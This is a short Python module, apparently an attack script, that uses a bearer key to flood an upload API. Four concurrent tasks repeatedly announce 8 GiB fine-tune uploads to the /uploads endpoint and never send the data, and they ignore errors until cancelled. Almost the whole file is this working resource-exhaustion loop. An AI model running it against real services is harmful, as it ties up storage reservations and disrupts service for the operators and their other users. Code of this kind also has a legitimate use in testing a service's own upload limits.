"""The attack with uploads of 8 GiB that never come."""

from __future__ import annotations

import asyncio
from contextlib import suppress

import aiohttp

_UPLOAD = {
    "bytes": 8 * 2**30,
    "filename": "x.jsonl",
    "mime_type": "text/jsonl",
    "purpose": "fine-tune",
}


async def attack(base_url: str, key: str) -> None:
    """Announce upload after upload, four at a time, until cancelled."""
    headers = {"authorization": f"Bearer {key}"}
    async with aiohttp.ClientSession(headers=headers) as session, asyncio.TaskGroup() as group:
        for _ in range(4):
            group.create_task(_announce(session, f"{base_url}/uploads"))


async def _announce(session: aiohttp.ClientSession, url: str) -> None:
    while True:
        with suppress(aiohttp.ClientError):
            async with session.post(url, json=_UPLOAD) as answer:
                await answer.read()
